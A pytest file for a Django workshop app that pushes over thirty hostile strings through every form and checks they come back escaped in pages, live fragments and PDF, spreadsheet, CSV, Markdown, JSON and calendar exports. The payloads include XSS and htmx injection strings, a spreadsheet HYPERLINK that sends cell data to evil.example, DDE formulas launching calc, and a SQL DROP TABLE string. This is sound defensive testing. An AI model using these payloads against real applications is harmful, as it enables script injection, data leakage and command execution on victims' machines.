"""Hostile text in every field a person can type, read back everywhere it shows.

Each payload goes in through the real forms (participant name and
organisation, impossible statement and details, offer message and contact,
the facilitators' action form, edit form, timer and atelier settings, a
pilot's follow-up) and must come out as the same text: escaped in every
HTML page and live fragment (no tag, no attribute, no htmx instruction gets
through), and shown literally in every export (PDF text, XLSX cells that are
never formulas, neutralised CSV cells, escaped Markdown, JSON that
round-trips exactly, iCalendar that parses).
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import icalendar
import jsonschema
import openpyxl
import pypdf
import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.contrib.sessions.models import Session
from django.core.cache import cache
from django.test import Client, override_settings
from django.utils.html import escape

from boards import exporters, reads
from boards.exporters.common import clean_text
from boards.exporters.markdown import md_escape
from boards.live import messages
from boards.models import (
    NAME_MAX,
    NEXT_STEP_MAX,
    OFFER_MESSAGE_MAX,
    ORGANISATION_MAX,
    STATEMENT_MAX,
    TITLE_MAX,
    Atelier,
    HelpOffer,
    Impossible,
    Participant,
    Pilot,
    PlanAction,
)

pytestmark = pytest.mark.django_db

# --- Payloads -----------------------------------------------------------------------------------

# Every handler sets window.__xss; every URL points at __evil__ or evil.example.
PAYLOADS: dict[str, str] = {
    "script": "<script>window.__xss='script'</script>",
    "img-onerror": '<img src=x onerror="window.__xss=1">',
    "svg-onload": "<svg onload=window.__xss=1>",
    "svg-script": "<svg><script>window.__xss=1</script></svg>",
    "quote-break-script": '"><script>window.__xss=1</script>',
    "single-quote-break": "'><img src=x onerror=window.__xss=1>",
    "attribute-break": '" autofocus onfocus="window.__xss=1" onmouseover="window.__xss=1" x="',
    "single-attribute-break": "' autofocus onfocus='window.__xss=1' x='",
    "a-javascript": '<a href="javascript:window.__xss=1">clic</a>',
    "javascript-url": "javascript:window.__xss=1//",
    "data-url": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "hx-get": '<div hx-get="/__evil__" hx-trigger="load">x</div>',
    "hx-post": '<form hx-post="/__evil__" hx-trigger="load" hx-target="body"></form>',
    "data-hx": '<div data-hx-get="/__evil__" data-hx-trigger="load">x</div>',
    "hx-on": '<div hx-on:htmx:load="window.__xss=1" hx-on::load="window.__xss=1">x</div>',
    "hx-attributes-bare": 'hx-get="/__evil__" hx-vals=\'{"a":1}\' hx-headers=\'{"X-A":1}\' ws-send',
    "hx-swap-oob": '<div id="live-status" hx-swap-oob="true">pwned</div>',
    "version-marker": '<div id="live-version" data-version="999999" data-kind="snapshot" hidden></div>',
    "django-template": "{{ 7*7 }} {% debug %} {{ request.session }} {% csrf_token %}",
    "other-templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.__xss=1')()}}",
    "style": "<style>body{display:none!important}</style>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "template": "<template><img src=x onerror=window.__xss=1></template>",
    "comment-open": "<!-- tout ce qui suit disparaît",
    "comment-close": "--> <!--> <!---->",
    "cdata": "<![CDATA[<script>window.__xss=1</script>]]>",
    "textarea-breakout": "</textarea><script>window.__xss=1</script>",
    "title-breakout": "</title><script>window.__xss=1</script>",
    "math": '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "entities": "&lt;script&gt;window.__xss=1&lt;/script&gt; &amp; &#x3C;b&#x3E; &nbsp;",
    "rtl-override": "Facture\u202eexe.pdf\u202c de la mairie",
    "bidi-controls": "\u2066isolé\u2069 \u2067droite\u2069 \u2068premier\u2069 \u200e\u200f\u061c marques",
    "zero-width": "im\u200bpos\u200csi\u200dble\ufeff au\u2060jour\u180ed'hui",
    "long-word": ("Anticonstitutionnellement" * 12)[:STATEMENT_MAX],
    "emoji": "🔥💡 l'impossible 🇫🇷 👩🏽\u200d🔧 👨\u200d👩\u200d👧\u200d👦 se dissout 🤝🏿",
    "controls": "ligne\x01\x02\x03\x07\x08\x0b\x0c\x1b[31mrouge\x1b[0m\x7f fin",
    "line-separators": "avant\u2028pendant\u2029après\u0085fin",
    "formula-equals": '=HYPERLINK("https://evil.example/?q="&A1,"Cliquez")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "markdown-link": "[cliquez ici](javascript:window.__xss=1)",
    "markdown-image": "![x](https://evil.example/pixel.png) <https://evil.example>",
    "markdown-structure": "# Titre | a | b | - liste *gras* _it_ `code` ~~barré~~ > cité 1. un",
    "zalgo": "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇ l'impossible",
    "sql": "'; DROP TABLE boards_impossible; --",
}
assert len(PAYLOADS) >= 30

# Strings that must never reach an attribute, a URL or a script.
MARKERS = ("__xss", "__evil__", "evil.example", "javascript:", "pwned")
CONTACT_SIGN = "☎ "
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def fit(text: str, size: int) -> str:
    """The payload as a field of `size` characters stores it (forms strip the ends)."""
    return text[:size].strip()


# --- Reading HTML -------------------------------------------------------------------------------


@dataclass
class Inspected:
    text: str
    values: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


class _Inspector(HTMLParser):
    """Collects the text a browser shows and every element, and notes
    anything user text could have smuggled in."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []
        self.values: list[str] = []
        self.problems: list[str] = []
        self.ids: set[str] = set()
        self.tag_stack: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)

    def _element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"<{tag} {' '.join(name for name, _ in attrs)}>"
        if tag in {"iframe", "frame", "object", "embed", "base", "template", "math", "style", "img", "applet"}:
            self.problems.append(f"unexpected element {where}")
        attributes = dict(attrs)
        if tag == "script" and not (
            (attributes.get("src") or "").startswith("/static/") or attributes.get("type") == "application/json"
        ):
            self.problems.append(f"inline script {where}")
        if tag == "meta" and "http-equiv" in attributes and attributes["http-equiv"].lower() == "refresh":
            self.problems.append(f"refresh {where}")
        for name, value in attrs:
            if name.startswith("on") or name in {"srcdoc", "formaction", "xlink:href"}:
                self.problems.append(f"attribute {name} in {where}")
            lowered = (value or "").lower()
            if name == "value":
                self.values.append(value or "")
            elif any(marker in lowered for marker in MARKERS):
                self.problems.append(f"{name}={value!r} in {where}")
            if name == "href" and lowered.strip().startswith(("javascript:", "data:", "vbscript:")):
                self.problems.append(f"href {value!r}")
            if name == "id":
                if value in self.ids:
                    self.problems.append(f"duplicate id {value!r}")
                self.ids.add(value or "")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"HTML comment <!--{data[:80]}-->")


def inspect(html: str) -> Inspected:
    parser = _Inspector()
    parser.feed(html)
    parser.close()
    return Inspected("".join(parser.texts), parser.values, parser.problems)


def assert_shown_literally(html: str, expected: list[str], where: str, *, values: list[str] = ()) -> Inspected:
    """No markup from user text, and each expected text shown as typed."""
    seen = inspect(html)
    assert not seen.problems, f"{where}: " + "\n".join(seen.problems)
    missing = [text for text in expected if text not in seen.text]
    assert not missing, f"{where}: not shown literally: {missing[:5]!r}"
    missing_values = [value for value in values if value not in seen.values]
    assert not missing_values, f"{where}: not in a form field: {missing_values[:5]!r}"
    for text in expected:
        # Special characters reach the page escaped, never raw.
        if any(char in text for char in "<>\"'&"):
            assert escape(text) in html or escape(text).replace("&#x27;", "'") in html, (where, text)
    return seen


def lines(text: str) -> list[str]:
    """Multi-line text (details, next steps) is shown line by line."""
    return [line for line in text.splitlines() if line]


# --- The room -----------------------------------------------------------------------------------


@dataclass
class Phone:
    payload: str  # its id
    client: Client
    participant: Participant
    impossible: Impossible | None = None
    edited: Impossible | None = None


@dataclass
class Room:
    atelier: Atelier
    facilitator: Client
    phones: list[Phone]
    pushed: list[tuple[dict, dict[str, str]]]

    def refresh(self) -> None:
        self.atelier.refresh_from_db()
        for phone in self.phones:
            phone.participant.refresh_from_db()
            phone.impossible.refresh_from_db()
            phone.edited.refresh_from_db()

    @property
    def impossibles(self) -> list[Impossible]:
        return list(Impossible.objects.filter(atelier=self.atelier, hidden=False, pending=False))

    @property
    def offers(self) -> list[HelpOffer]:
        return list(HelpOffer.objects.filter(impossible__atelier=self.atelier).select_related("author"))

    @property
    def actions(self) -> list[PlanAction]:
        return list(PlanAction.objects.filter(atelier=self.atelier).select_related("pilot", "impossible"))


def _ok(response, *statuses: int) -> None:
    assert response.status_code in (statuses or (200, 302)), (
        response.status_code,
        response.content.decode()[:2000],
    )


def _key(n: int, kind: str) -> str:
    return f"{kind}-{n}-hostile"


@pytest.fixture(scope="module")
def room(django_db_setup, django_db_blocker) -> Iterator[Room]:
    """One phone per payload, writing it in every field it owns; the
    facilitators edit, plan and time with payloads; each pilot follows up
    with one. Every live fragment rendered meanwhile is kept.

    Built once for the module (a few hundred requests): its rows are
    committed, and deleted after the module's last test."""
    clients: list[Client] = []
    with (
        django_db_blocker.unblock(),
        override_settings(CACHES={**settings.CACHES, "ratelimit": _LOCAL_CACHE}),
        pytest.MonkeyPatch.context() as monkeypatch,
    ):
        atelier = Atelier.objects.create(title="Atelier de l'impossible — Hostile", territory="Charente", code="HOSTIL")
        user = User.objects.create_user("hostile-animation", email="hostile@example.org")
        atelier.facilitators.add(user)
        facilitator = Client()
        facilitator.force_login(user)
        clients.append(facilitator)
        try:
            built = _build_room(atelier, facilitator, monkeypatch, clients)
        except BaseException:
            _clean_up(atelier, user, clients)
            raise
    yield built
    with django_db_blocker.unblock():
        _clean_up(atelier, user, clients)


_LOCAL_CACHE = {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "hostile-text"}


def _clean_up(atelier: Atelier, user, clients: list[Client]) -> None:
    keys = [client.cookies["sessionid"].value for client in clients if "sessionid" in client.cookies]
    Session.objects.filter(session_key__in=keys).delete()
    Atelier.objects.filter(pk=atelier.pk).delete()
    user.delete()


def _build_room(atelier: Atelier, facilitator: Client, monkeypatch, clients: list[Client]) -> Room:
    pushed: list[tuple[dict, dict[str, str]]] = []
    render = messages.event_messages

    def keep(atelier_id, version, event):
        rendered = render(atelier_id, version, event)
        # The texts as they were when pushed: some are edited later.
        texts = list(Impossible.objects.filter(pk=event.get("impossible")).values_list("statement", flat=True))
        if event["type"] == "offer.posted":
            texts += list(HelpOffer.objects.filter(pk=event["offer"]).values_list("message", flat=True))
        pushed.append(({**event, "texts": texts}, rendered))
        return rendered

    monkeypatch.setattr(messages, "event_messages", keep)

    code = atelier.code
    phones: list[Phone] = []
    for n, (name, payload) in enumerate(PAYLOADS.items()):
        client = Client()
        clients.append(client)
        data = {"name": fit(payload, NAME_MAX), "organisation": fit(payload, ORGANISATION_MAX), "role": "pair"}
        _ok(client.post(f"/a/{code}/join/", data), 302)
        participant = Participant.objects.get(atelier=atelier, name=data["name"], organisation=data["organisation"])
        phone = Phone(name, client, participant)
        details = f"{payload}\nDeuxième ligne : {payload}"
        # « decision »: past « Ça ressemble à… » (these texts look alike on purpose).
        post = {
            "statement": fit(payload, STATEMENT_MAX),
            "details": details,
            "category": "recrutement",
            "decision": "publish",
        }
        _ok(client.post(f"/a/{code}/impossibles/", {**post, "submission_key": _key(n, "imp")}), 302)
        benign = {"statement": f"À corriger n° {n}", "details": "", "category": "foncier", "decision": "publish"}
        _ok(client.post(f"/a/{code}/impossibles/", {**benign, "submission_key": _key(n, "fix")}), 302)
        phone.impossible = Impossible.objects.get(author=participant, submission_key=_key(n, "imp"))
        phone.edited = Impossible.objects.get(author=participant, submission_key=_key(n, "fix"))
        phones.append(phone)

    for n, phone in enumerate(phones):
        payload = PAYLOADS[phone.payload]
        target = phones[(n + 1) % len(phones)].impossible
        data = {
            "kind": "expertise",
            "message": fit(payload, OFFER_MESSAGE_MAX),
            "contact": fit(CONTACT_SIGN + payload, 200),
            "submission_key": _key(n, "offer"),
        }
        if n % 2:  # half the helpers show their contact to pilots
            data["contact_for_pilots"] = "on"
        _ok(phone.client.post(f"/a/{code}/impossibles/{target.pk}/offers/", data), 302)
        edit = {"statement": fit("✎ " + payload, STATEMENT_MAX), "details": payload, "category": "foncier"}
        _ok(facilitator.post(f"/a/{code}/console/impossibles/{phone.edited.pk}/edit/", edit), 302)

    _ok(facilitator.post(f"/a/{code}/console/spotlight/", {"impossible": phones[0].impossible.pk}))
    _ok(facilitator.post(f"/a/{code}/console/phase/", {"phase": "plan"}))
    for n, phone in enumerate(phones):
        payload = PAYLOADS[phone.payload]
        offer = HelpOffer.objects.get(impossible=phone.impossible)
        data = {
            "title": fit(payload, TITLE_MAX),
            "pilot_participant": "",
            "pilot_name": fit(payload, NAME_MAX),
            "pilot_organisation": fit("Org " + payload, ORGANISATION_MAX),
            "helpers": [offer.pk],
            "next_step": fit(payload, NEXT_STEP_MAX),
            "due_on": "2027-03-31",
            "status": "a_lancer",
            "submission_key": _key(n, "action"),
        }
        _ok(facilitator.post(f"/a/{code}/console/impossibles/{phone.impossible.pk}/actions/new/", data), 302)
    _ok(facilitator.post(f"/a/{code}/plan/share/", {"op": "publish"}))
    for n, action in enumerate(PlanAction.objects.filter(atelier=atelier).select_related("pilot").order_by("pk")):
        payload = list(PAYLOADS.values())[n]
        data = {"status": "en_cours", "next_step": fit("Suivi : " + payload, NEXT_STEP_MAX)}
        _ok(Client().post(f"/suivi/{action.pilot.token}/actions/{action.pk}/", data), 302)
    timer = {"op": "start", "minutes": "5", "label": fit(PAYLOADS["img-onerror"], 120)}
    _ok(facilitator.post(f"/a/{code}/console/timer/", timer))

    room = Room(atelier, facilitator, phones, pushed)
    room.refresh()
    return room


# --- Everything is stored exactly as typed -------------------------------------------------------


def test_every_field_stores_the_text_as_typed(room):
    for phone in room.phones:
        payload = PAYLOADS[phone.payload]
        assert phone.participant.name == fit(payload, NAME_MAX)
        assert phone.participant.organisation == fit(payload, ORGANISATION_MAX)
        assert phone.impossible.statement == fit(payload, STATEMENT_MAX)
        assert phone.impossible.details == f"{payload}\nDeuxième ligne : {payload}"
        assert phone.edited.statement == fit("✎ " + payload, STATEMENT_MAX)
        offer = HelpOffer.objects.get(author=phone.participant)
        assert (offer.message, offer.contact) == (fit(payload, OFFER_MESSAGE_MAX), fit(CONTACT_SIGN + payload, 200))
        action = PlanAction.objects.select_related("pilot").get(impossible=phone.impossible)
        assert action.title == fit(payload, TITLE_MAX)
        assert (action.pilot.name, action.pilot.organisation) == (
            fit(payload, NAME_MAX),
            fit("Org " + payload, ORGANISATION_MAX),
        )
        assert action.next_step == fit("Suivi : " + payload, NEXT_STEP_MAX)
    assert room.atelier.timer_label == fit(PAYLOADS["img-onerror"], 120)


# --- (a) Pages ----------------------------------------------------------------------------------


def _board_texts(room: Room) -> list[str]:
    texts = [room.atelier.title, room.atelier.timer_label]
    for impossible in room.impossibles:
        texts += [impossible.statement, *lines(impossible.details)]
    for participant in Participant.objects.filter(atelier=room.atelier):
        texts += [participant.name, participant.organisation]
    texts += [offer.message for offer in room.offers]
    texts += [action.title for action in room.actions] + [action.pilot.name for action in room.actions]
    return [text for text in texts if text]


def test_the_board_shows_every_text_literally(room):
    phone = room.phones[1]
    response = phone.client.get(f"/a/{room.atelier.code}/?shown=1000")
    assert response.status_code == 200
    seen = assert_shown_literally(response.content.decode(), _board_texts(room), "board")
    assert CONTACT_SIGN not in seen.text, "a contact leaked onto the board"


def test_each_impossible_page_shows_its_texts_literally(room):
    for phone in room.phones:
        for impossible in (phone.impossible, phone.edited):
            response = phone.client.get(f"/a/{room.atelier.code}/impossibles/{impossible.pk}/")
            assert response.status_code == 200
            offers = HelpOffer.objects.filter(impossible=impossible)
            expected = [impossible.statement, *lines(impossible.details), phone.participant.name]
            # The author sees the contacts left with the offers.
            expected += [text for offer in offers for text in (offer.message, offer.contact, offer.author.name)]
            expected += [action.title for action in PlanAction.objects.filter(impossible=impossible)]
            assert_shown_literally(response.content.decode(), expected, f"impossible page ({phone.payload})")


def test_the_console_shows_every_text_literally(room):
    response = room.facilitator.get(f"/a/{room.atelier.code}/console/")
    assert response.status_code == 200
    # Everything but the details, which the console does not show.
    details = {line for impossible in room.impossibles for line in lines(impossible.details)}
    expected = [text for text in _board_texts(room) if text not in details]
    expected += [offer.contact for offer in room.offers]
    assert_shown_literally(response.content.decode(), expected, "console")


def test_the_projector_shows_its_texts_literally(room):
    for path in ("projector/", "projector/panels/"):
        response = room.facilitator.get(f"/a/{room.atelier.code}/{path}")
        assert response.status_code == 200
        shown = PlanAction.objects.filter(atelier=room.atelier).order_by(
            "-impossible__me_too_count", "impossible_id", "created_at"
        )[:7]
        expected = [room.atelier.title, room.atelier.timer_label, room.phones[0].impossible.statement]
        expected += [action.title for action in shown] + [action.pilot.name for action in shown]
        assert_shown_literally(response.content.decode(), expected, path)


def _plan_texts(room: Room, *, contacts: bool) -> list[str]:
    texts = [room.atelier.title]
    for action in room.actions:
        texts += [action.title, action.impossible.statement, action.pilot.name, action.pilot.organisation]
        texts += lines(action.next_step)
        for offer in action.accepted_offers.select_related("author"):
            texts += [offer.author.name] + ([offer.contact] if contacts else [])
    return texts


def test_the_plan_pages_show_every_text_literally(room):
    code, token = room.atelier.code, room.atelier.share_token
    for path, client, contacts in [
        (f"/a/{code}/plan/", room.facilitator, True),
        (f"/a/{code}/plan/panels/", room.facilitator, True),
        (f"/plan/{token}/", Client(), False),
        (f"/plan/{token}/panels/", Client(), False),
    ]:
        response = client.get(path)
        assert response.status_code == 200, path
        seen = assert_shown_literally(response.content.decode(), _plan_texts(room, contacts=contacts), path)
        if not contacts:
            assert CONTACT_SIGN not in seen.text, f"a contact leaked onto {path}"


def test_each_follow_up_page_shows_its_texts_literally(room):
    for pilot in Pilot.objects.filter(atelier=room.atelier):
        response = Client().get(f"/suivi/{pilot.token}/")
        assert response.status_code == 200
        actions = list(PlanAction.objects.filter(pilot=pilot))
        expected = [pilot.name] + [action.title for action in actions]
        # Contacts only of the helpers who agreed to show them to pilots.
        expected += [
            offer.contact for action in actions for offer in action.accepted_offers.all() if offer.contact_for_pilots
        ]
        html = response.content.decode()
        seen = assert_shown_literally(html, expected, f"follow-up of {pilot.name!r}")
        for action in actions:
            for offer in action.accepted_offers.filter(contact_for_pilots=False):
                assert offer.contact not in seen.text, f"a contact the helper kept from pilots: {offer.contact!r}"
        # The next step is in the textarea, as typed (the history shows it too).
        for action in actions:
            assert action.next_step in seen.text


def test_the_forms_show_the_texts_back_in_their_fields(room):
    code = room.atelier.code
    for phone in room.phones[:: max(1, len(room.phones) // 12)]:
        participant = phone.participant
        response = phone.client.get(f"/a/{code}/me/")
        assert_shown_literally(
            response.content.decode(), [], "profile", values=[participant.name, participant.organisation]
        )
        response = phone.client.get(f"/a/{code}/impossibles/{phone.impossible.pk}/offers/")
        assert_shown_literally(response.content.decode(), [phone.impossible.statement], "offer page")
        response = room.facilitator.get(f"/a/{code}/console/impossibles/{phone.edited.pk}/edit/")
        assert_shown_literally(response.content.decode(), [phone.edited.statement], "edit page")
        action = PlanAction.objects.get(impossible=phone.impossible)
        response = room.facilitator.get(f"/a/{code}/console/actions/{action.pk}/")
        assert_shown_literally(
            response.content.decode(),
            [phone.impossible.statement, action.next_step],
            "action form",
            values=[action.title, action.pilot.name, action.pilot.organisation],
        )
    # The action form lists every participant as a possible pilot.
    response = room.facilitator.get(f"/a/{code}/console/impossibles/{room.phones[0].edited.pk}/actions/new/")
    names = [phone.participant.name for phone in room.phones]
    assert_shown_literally(response.content.decode(), names, "new action form")


def test_refused_forms_show_the_text_back_literally(room):
    """A form shown again with an error keeps what was typed, escaped."""
    code = room.atelier.code
    phone = room.phones[0]
    for payload in PAYLOADS.values():
        too_long = payload + " " + "x" * STATEMENT_MAX
        response = phone.client.post(
            f"/a/{code}/impossibles/", {"statement": too_long, "category": "recrutement", "submission_key": "k"}
        )
        assert response.status_code == 422
        assert_shown_literally(response.content.decode(), [too_long], "refused post")


# --- (b) Live fragments -------------------------------------------------------------------------


def test_every_pushed_fragment_shows_the_texts_literally(room):
    assert room.pushed, "no live fragment was rendered"
    by_type: dict[str, int] = {}
    for event, rendered in room.pushed:
        by_type[event["type"]] = by_type.get(event["type"], 0) + 1
        expected = event["texts"] if event["type"] in {"impossible.posted", "impossible.edited", "offer.posted"} else []
        for language, html in rendered.items():
            seen = assert_shown_literally(html, expected, f"{event['type']} ({language})")
            assert CONTACT_SIGN not in seen.text, "a contact leaked into a push"
    assert {"impossible.posted", "offer.posted", "impossible.edited", "action.changed", "atelier.updated"} <= set(
        by_type
    ), by_type


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("sort", ["recent", "top"])
def test_the_snapshot_shows_every_text_literally(room, language, sort):
    _version, html = messages.snapshot_message(room.atelier, language, sort, "")
    # The first page of cards, with their offers and actions.
    shown = [impossible for impossible in room.impossibles if f'id="imp-{impossible.pk}"' in html]
    assert len(shown) == reads.PAGE_SIZE
    texts = [impossible.statement for impossible in shown]
    texts += [offer.message for offer in room.offers if offer.impossible in shown]
    texts += [action.title for action in room.actions if action.impossible in shown]
    seen = assert_shown_literally(html, texts, f"snapshot {language} {sort}")
    assert CONTACT_SIGN not in seen.text


# --- (c) Exports --------------------------------------------------------------------------------


def _export(room: Room, identifier: str, contacts: bool) -> bytes:
    return exporters.export(room.atelier, identifier, include_contacts=contacts)[2]


def _user_texts(room: Room, *, contacts: bool) -> dict[str, list[str]]:
    """What each export must show: the plan's actions and the impossibles."""
    actions = room.actions
    texts = {
        "title": [room.atelier.title],
        "actions": [action.title for action in actions],
        "pilots": [action.pilot.name for action in actions],
        "next_steps": [action.next_step for action in actions],
        "statements": [action.impossible.statement for action in actions],
    }
    if contacts:
        texts["contacts"] = [
            offer.contact for action in actions for offer in action.accepted_offers.all() if offer.contact
        ]
    return texts


FONT_PATH = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")


def _pdf_glyphs() -> set[int]:
    from reportlab.pdfbase.ttfonts import TTFont

    return set(TTFont("DejaVuSansProbe", str(FONT_PATH)).face.charToGlyph)


def _pdf_runs(text: str, glyphs: set[int]) -> list[str]:
    """The pieces of `text` a PDF can show and give back: drawable characters,
    spaces and format characters (bidi, zero-width) left out."""
    runs, current = [], []
    for char in clean_text(text):
        if char.isspace() or unicodedata.category(char) in {"Cf", "Mn", "Cc", "Co", "Cs"}:
            continue
        if ord(char) in glyphs and char not in "\u00ad":
            current.append(char)
        elif current:
            runs.append("".join(current))
            current = []
    if current:
        runs.append("".join(current))
    return runs


def _squash_pdf(content: bytes) -> str:
    text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)
    # Characters without a glyph come back as NUL: left out like format characters.
    return "".join(char for char in text if not char.isspace() and unicodedata.category(char) not in {"Cf", "Mn", "Cc"})


@pytest.mark.parametrize("contacts", [True, False], ids=["with-contacts", "public"])
def test_the_pdf_shows_every_text(room, contacts):
    text = _squash_pdf(_export(room, "pdf", contacts))
    glyphs = _pdf_glyphs()
    for kind, values in _user_texts(room, contacts=contacts).items():
        for value in values:
            for run in _pdf_runs(value, glyphs):
                assert run in text, f"PDF {kind}: {run!r} (from {value!r}) not in the text"
    if not contacts:
        assert "☎" not in text


@pytest.mark.parametrize("contacts", [True, False], ids=["with-contacts", "public"])
def test_the_spreadsheet_has_text_cells_never_formulas(room, contacts):
    book = openpyxl.load_workbook(io.BytesIO(_export(room, "xlsx", contacts)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    values = {cell.value for cell in cells if isinstance(cell.value, str)}
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} would become a formula once edited"
    assert book.properties.title == clean_text(room.atelier.title)
    texts = _user_texts(room, contacts=contacts)
    del texts["title"]
    texts["impossibles"] = [impossible.statement for impossible in room.impossibles]
    texts["details"] = [impossible.details for impossible in room.impossibles if impossible.details]
    texts["offers"] = [offer.message for offer in room.offers]
    for kind, expected in texts.items():
        for value in expected:
            if kind in {"pilots", "contacts"}:
                assert any(clean_text(value) in cell for cell in values), (kind, value)
            else:
                assert clean_text(value) in values, f"XLSX {kind}: {value!r}"
    if not contacts:
        assert not any(CONTACT_SIGN in value for value in values)


@pytest.mark.parametrize("contacts", [True, False], ids=["with-contacts", "public"])
def test_the_csv_neutralises_every_cell(room, contacts):
    rows = list(csv.reader(io.StringIO(_export(room, "csv", contacts).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous[:5]}"

    def shown(value: str) -> str:
        # A quote before what a spreadsheet would run: at the start, and after
        # a separator inside the cell (a reader splitting on "," sees a cell there).
        return re.sub(r'(^|[,;\t\r\n])([ "]*)(?=[=+\-@\t\r])', r"\1\2'", clean_text(value))

    texts = _user_texts(room, contacts=contacts)
    for kind in ("actions", "statements", "next_steps"):
        for value in texts[kind]:
            assert shown(value) in cells, f"CSV {kind}: {value!r}"
    joined = "\n".join(cells)
    for value in texts["pilots"] + texts.get("contacts", []):
        # Part of a longer cell: only the quotes after a separator apply.
        inside = re.sub(r'([,;\t\r\n])([ "]*)(?=[=+\-@\t\r])', r"\1\2'", clean_text(value))
        assert inside in joined
    if not contacts:
        assert CONTACT_SIGN not in joined


def _unescaped(markdown: str, chars: str) -> list[str]:
    """Characters of `chars` in the file that no backslash escapes (a ">"
    opening a line is the exporter's own notice)."""
    found, escaped = [], False
    for index, char in enumerate(markdown):
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == ">" and (index == 0 or markdown[index - 1] == "\n"):
            continue
        elif char in chars:
            found.append(markdown[max(0, index - 30) : index + 30])
    return found


@pytest.mark.parametrize("contacts", [True, False], ids=["with-contacts", "public"])
def test_the_markdown_escapes_every_text(room, contacts):
    markdown = _export(room, "md", contacts).decode()
    # No link, image, HTML, code span or table can come from user text.
    assert _unescaped(markdown, "<>[]`|") == []
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", markdown)
    for kind, values in _user_texts(room, contacts=contacts).items():
        for value in values:
            assert md_escape(value) in markdown, f"Markdown {kind}: {value!r} not escaped as expected"
    for line in markdown.splitlines():
        # Each line starts with the exporter's own syntax or escaped text.
        assert not re.match(r"\s*([=+@~]|-[^ ]|\d+\.\S)", line), line
    if not contacts:
        assert CONTACT_SIGN not in markdown


@pytest.mark.parametrize("contacts", [True, False], ids=["with-contacts", "public"])
def test_the_json_gives_back_every_text_exactly(room, contacts):
    document = json.loads(_export(room, "json", contacts))
    schema = json.loads(exporters.opendata.SCHEMA_PATH.read_text())
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER).validate(
        document
    )
    assert document["atelier"]["title"] == room.atelier.title
    by_id = {action.pk: action for action in room.actions}
    assert {row["id"] for row in document["actions"]} == set(by_id)
    for row in document["actions"]:
        action = by_id[row["id"]]
        assert row["title"] == action.title
        assert (row["pilot"]["name"], row["pilot"]["organisation"]) == (action.pilot.name, action.pilot.organisation)
        assert row["next_step"] == action.next_step
        for helper in row["helpers"]:
            offer = HelpOffer.objects.get(pk=helper["offer_id"])
            assert (helper["message"], helper["name"]) == (offer.message, offer.author.name)
            assert helper.get("contact", offer.contact if contacts else None) == (offer.contact if contacts else None)
    statements = {row["id"]: (row["statement"], row["details"]) for row in document["impossibles"]}
    for impossible in room.impossibles:
        assert statements[impossible.pk] == (impossible.statement, impossible.details)
    offers = {row["id"]: row["message"] for row in document["offers"]}
    assert offers == {offer.pk: offer.message for offer in room.offers}


@pytest.mark.parametrize("contacts", [True, False], ids=["with-contacts", "public"])
def test_the_calendar_parses_and_shows_every_text(room, contacts):
    content = _export(room, "ics", contacts)
    calendar = icalendar.Calendar.from_ical(content)
    events = {str(event["uid"]): event for event in calendar.walk("VEVENT")}
    assert len(events) == len(room.actions)
    for action in room.actions:
        event = events[f"action-{action.pk}@atelier-{room.atelier.pk}.cerveau-collectif"]
        assert str(event["summary"]) == clean_text(action.title)
        description = str(event["description"])
        assert clean_text(action.next_step) in description
        assert clean_text(action.impossible.statement) in description
        assert event["dtstart"].dt == datetime.date(2027, 3, 31)
    if not contacts:
        assert CONTACT_SIGN.encode() not in content


# --- The atelier's own texts: title, venue, territory, timer label --------------------------------


@pytest.fixture
def planned(atelier, alice, bob, facilitator):
    """A small plan to export: one action, one public link."""
    post = {"statement": "Impossible de recruter", "category": "recrutement", "submission_key": "s1"}
    _ok(alice.post("/a/TST234/impossibles/", post), 302)
    impossible = Impossible.objects.get(author=alice.participant)
    _ok(facilitator.post("/a/TST234/console/phase/", {"phase": "plan"}))
    action = {
        "title": "Réunir les soudeurs",
        "pilot_participant": "",
        "pilot_name": "Mairie",
        "next_step": "",
        "due_on": "2027-03-31",
        "status": "a_lancer",
        "submission_key": "a1",
    }
    _ok(facilitator.post(f"/a/TST234/console/impossibles/{impossible.pk}/actions/new/", action), 302)
    _ok(facilitator.post("/a/TST234/plan/share/", {"op": "publish"}))
    return atelier


